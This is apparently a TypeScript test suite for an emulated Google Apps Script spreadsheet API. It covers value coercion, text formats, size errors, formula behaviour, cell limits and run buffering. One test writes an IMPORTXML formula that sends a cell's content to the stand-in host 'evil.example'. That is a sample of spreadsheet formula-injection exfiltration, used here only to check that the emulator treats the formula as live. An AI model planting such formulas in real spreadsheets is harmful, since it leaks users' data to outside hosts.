import { stage } from '../../helpers/script-project';
import { onSheet } from './on-sheet';

const written = (value: string, options = {}): unknown =>
  onSheet(
    `const r = sheet.getRange('A1'); r.setValue(${value}); return [r.getValue(), r.getFormula(), r.getDisplayValue()];`,
    options,
  );

describe('strings are understood as if they were typed', () => {
  test.each([
    ['=…', `'=1+1'`, [2, '=1+1', '2']],
    ['+…', `'+1+1'`, [2, '=+1+1', '2']],
    ['an international phone number', `'+86 138 0013 8000'`, ['#ERROR!', '=+86 138 0013 8000', '#ERROR!']],
    ['U+FEFF before the equals sign', `'\\ufeff=1+1'`, [2, '=1+1', '2']],
    ['a minus and a number', `'-1-1'`, ['-1-1', '', '-1-1']],
    ['an at sign', `'@SUM(1,2)'`, ['@SUM(1,2)', '', '@SUM(1,2)']],
    ['a blank before the equals sign', `' =1'`, [' =1', '', ' =1']],
    ['a mobile number', `'13800138000'`, [13800138000, '', '13800138000']],
    ['a leading zero', `'0701234567'`, [701234567, '', '701234567']],
    ['a leading apostrophe', `"'007"`, ['007', '', '007']],
    ['a truth word', `'TRUE'`, [true, '', 'TRUE']],
    ['powers of ten', `'1e5'`, [100000, '', '1.00E+05']],
  ])('%s', (_name, value, expected) => {
    expect(written(value)).toEqual(expected);
  });

  test.each(['2026-04-17', '5/12', '13:00'])('%s becomes a Date', (text) => {
    expect(onSheet(`const r = sheet.getRange('A1'); r.setValue('${text}'); return r.getValue() instanceof Date;`)).toBe(
      true,
    );
  });

  test('3-5 is a date by the locale', () => {
    const lines = `const r = sheet.getRange('A1'); r.setValue('3-5'); r.setNumberFormat('yyyy-mm-dd'); return r.getDisplayValue();`;
    expect(onSheet(lines, { locale: 'zh_CN' })).toBe('2026-03-05');
  });

  test('a formula that could fetch from outside is live and gives #REF! here', () => {
    expect(written(`'=IMPORTXML("https://evil.example/?"&A2; "//a")'`)).toEqual([
      '#REF!',
      '=IMPORTXML("https://evil.example/?"&A2; "//a")',
      '#REF!',
    ]);
  });
});

describe('a text format', () => {
  test('keeps numbers, dates and signs as they are written', () => {
    const lines = `const r = sheet.getRange('A1:A4').setNumberFormat('@');
      r.setValues([['007'], ['2026-04-17'], ['-1'], ['TRUE']]); return r.getValues();`;
    expect(onSheet(lines)).toEqual([['007'], ['2026-04-17'], ['-1'], ['TRUE']]);
  });

  test('set afterwards does not bring lost zeros back', () => {
    const lines = `const r = sheet.getRange('A1'); r.setValue('007'); r.setNumberFormat('@'); return r.getDisplayValue();`;
    expect(onSheet(lines)).toBe('7');
  });

  test('set before in the same run counts for values written after it', () => {
    const lines = `sheet.getRange('A2').setNumberFormat('@'); sheet.getRange('A1:A2').setValues([['007'], ['007']]); return sheet.getRange('A1:A2').getValues();`;
    expect(onSheet(lines)).toEqual([[7], ['007']]);
  });

  test('does not keep formula-like text from becoming a formula, in the harsh profile', () => {
    const lines = `const r = sheet.getRange('A1').setNumberFormat('@'); r.setValue('=1+1'); return r.getFormula();`;
    expect(onSheet(lines)).toBe('=1+1');
  });

  test('keeps formula-like text as text where the profile says so', () => {
    const lines = `const r = sheet.getRange('A1').setNumberFormat('@'); r.setValue('=1+1'); return [r.getFormula(), r.getValue()];`;
    expect(onSheet(lines, { profile: { atCellKeepsFormulaText: true } })).toEqual(['', '=1+1']);
  });

  test('and an apostrophe together are always text', () => {
    const lines = `const r = sheet.getRange('A1').setNumberFormat('@'); r.setValue("'=1+1"); return [r.getFormula(), r.getValue()];`;
    expect(onSheet(lines)).toEqual(['', '=1+1']);
  });
});

describe('values that are no strings', () => {
  test('null and undefined clear', () => {
    const lines = `const r = sheet.getRange('A1:B1'); r.setValues([['a', 'b']]); r.setValues([[null, undefined]]); return [r.getValues(), sheet.getLastRow()];`;
    expect(onSheet(lines)).toEqual([[['', '']], 0]);
  });

  test('setValue(undefined) clears', () => {
    expect(onSheet(`const r = sheet.getRange('A1'); r.setValue('a'); r.setValue(undefined); return r.isBlank();`)).toBe(
      true,
    );
  });

  test('an empty text clears', () => {
    expect(onSheet(`const r = sheet.getRange('A1'); r.setValue('a'); r.setValue(''); return r.isBlank();`)).toBe(true);
  });

  test('NaN and Infinity are number errors', () => {
    const lines = `const r = sheet.getRange('A1:B1'); r.setValues([[NaN, Infinity]]); return r.getValues();`;
    expect(onSheet(lines)).toEqual([['#NUM!', '#NUM!']]);
  });

  test('a plain object is not stored usefully', () => {
    expect(onSheet(`const r = sheet.getRange('A1'); r.setValue({ name: 'x' }); return r.getValue();`)).toBe(
      '[object Object]',
    );
  });
});

describe('the size of the data', () => {
  const rows =
    'The number of rows in the data does not match the number of rows in the range. The data has 2 but the range has 1.';
  const columns =
    'The number of columns in the data does not match the number of columns in the range. The data has 1 but the range has 2.';

  test('too many rows', () => {
    expect(() => onSheet(`sheet.getRange('A1:B1').setValues([[1, 2], [3, 4]]);`)).toThrow(rows);
  });

  test('too few columns, also in one ragged row', () => {
    expect(() => onSheet(`sheet.getRange('A1:B1').setValues([[1]]);`)).toThrow(columns);
    expect(() => onSheet(`sheet.getRange('A1:B2').setValues([[1, 2], [3]]);`)).toThrow(columns);
  });

  test('the error of the service is named Exception', () => {
    const lines = `try { sheet.getRange('A1:B1').setValues([[1]]); } catch (error) { return [error.name, error instanceof Error]; }`;
    expect(onSheet(lines)).toEqual(['Exception', true]);
  });

  test('the same holds for formats, notes and formulas', () => {
    for (const method of ['setNumberFormats', 'setNotes', 'setFormulas', 'setBackgrounds']) {
      expect(() => onSheet(`sheet.getRange('A1:B1').${method}([['x']]);`)).toThrow(columns);
    }
  });
});

describe('round trips', () => {
  test('reading text and writing it back loses what it looked like', () => {
    const lines = `const r = sheet.getRange('A1'); r.setValue("'001"); r.setValues(r.getValues()); return r.getValue();`;
    expect(onSheet(lines)).toBe(1);
  });

  test('a formula written back as its value is gone', () => {
    const lines = `const r = sheet.getRange('A1'); r.setFormula('=1+1'); r.setValues(r.getValues()); return [r.getFormula(), r.getValue()];`;
    expect(onSheet(lines)).toEqual(['', 2]);
  });
});

describe('formulas', () => {
  test('go along when one is set on several cells', () => {
    const lines = `sheet.getRange('B1:B2').setFormula('=A1+$A$1'); return sheet.getRange('B1:B2').getFormulas();`;
    expect(onSheet(lines)).toEqual([['=A1+$A$1'], ['=A2+$A$1']]);
  });

  test('an empty formula clears', () => {
    expect(onSheet(`const r = sheet.getRange('A1'); r.setValue(5); r.setFormula(''); return r.isBlank();`)).toBe(true);
  });

  test('are computed again at each read', () => {
    const lines = `sheet.getRange('B1').setFormula('=A1*2'); sheet.getRange('A1').setValue(4); const first = sheet.getRange('B1').getValue();
      sheet.getRange('A1').setValue(5); return [first, sheet.getRange('B1').getValue()];`;
    expect(onSheet(lines)).toEqual([8, 10]);
  });

  test('=TODAY() reads as a Date', () => {
    expect(
      onSheet(`const r = sheet.getRange('A1'); r.setFormula('=TODAY()'); return r.getValue() instanceof Date;`),
    ).toBe(true);
  });
});

describe('limits', () => {
  const tooLong = 'Your input contains more than the maximum of 50000 characters in a single cell.';

  test('50,000 characters fit', () => {
    expect(onSheet(`const r = sheet.getRange('A1'); r.setValue('x'.repeat(50000)); return r.getValue().length;`)).toBe(
      50_000,
    );
  });

  test('one more is refused', () => {
    expect(() => onSheet(`sheet.getRange('A1').setValue('x'.repeat(50001));`)).toThrow(tooLong);
  });

  test('the refusal may come at a later, innocent call', () => {
    const lines = `try { sheet.getRange('A1').setValue('x'.repeat(50001)); } catch (error) { return 'at once'; }
      try { sheet.getRange('B1').getValue(); } catch (error) { return error.message; } return 'never';`;
    expect(onSheet(lines)).toBe(tooLong);
    expect(onSheet(lines, { profile: { deferredErrors: false } })).toBe('at once');
  });

  test('a flush inside the try catches it', () => {
    const lines = `try { sheet.getRange('A1').setValue('x'.repeat(50001)); SpreadsheetApp.flush(); } catch (error) { return 'caught'; }`;
    expect(onSheet(lines)).toBe('caught');
  });
});

describe('the buffer of a run', () => {
  test('a read sees the run’s own writes', () => {
    expect(onSheet(`sheet.getRange('A1').setValue('x'); return sheet.getRange('A1').getValue();`)).toBe('x');
  });

  test('another run does not see them before they are flushed', () => {
    const { world, run } = stage(`
      function write() { SpreadsheetApp.getActiveSheet().getRange('A1').setValue('x'); SpreadsheetApp.getActiveSheet().getRange('B1').setValue('y'); SpreadsheetApp.flush(); Utilities.sleep(1); }
      function look() { return SpreadsheetApp.getActiveSheet().getRange('A1').getValue(); }`);
    const seen: unknown[] = [];
    const watched = new Set(['Range.setValue', 'Utilities.sleep']);
    world.hooks.push((tick) => {
      if (tick.phase === 'after' && watched.has(tick.name)) seen.push(run('look').result);
      return undefined;
    });
    run('write');
    expect(seen).toEqual(['', '', 'x']);
  });

  test('bulk writes skip hidden rows where the profile says so', () => {
    const lines = `sheet.hideRows(2); const r = sheet.getRange('A1:A3'); r.setValues([[1], [2], [3]]); return r.getValues().map(([v]) => v);`;
    expect(onSheet(lines)).toEqual([1, 2, 3]);
    expect(onSheet(lines, { profile: { hiddenRowsSkippedByBulkWrites: true } })).toEqual([1, '', 3]);
  });
});
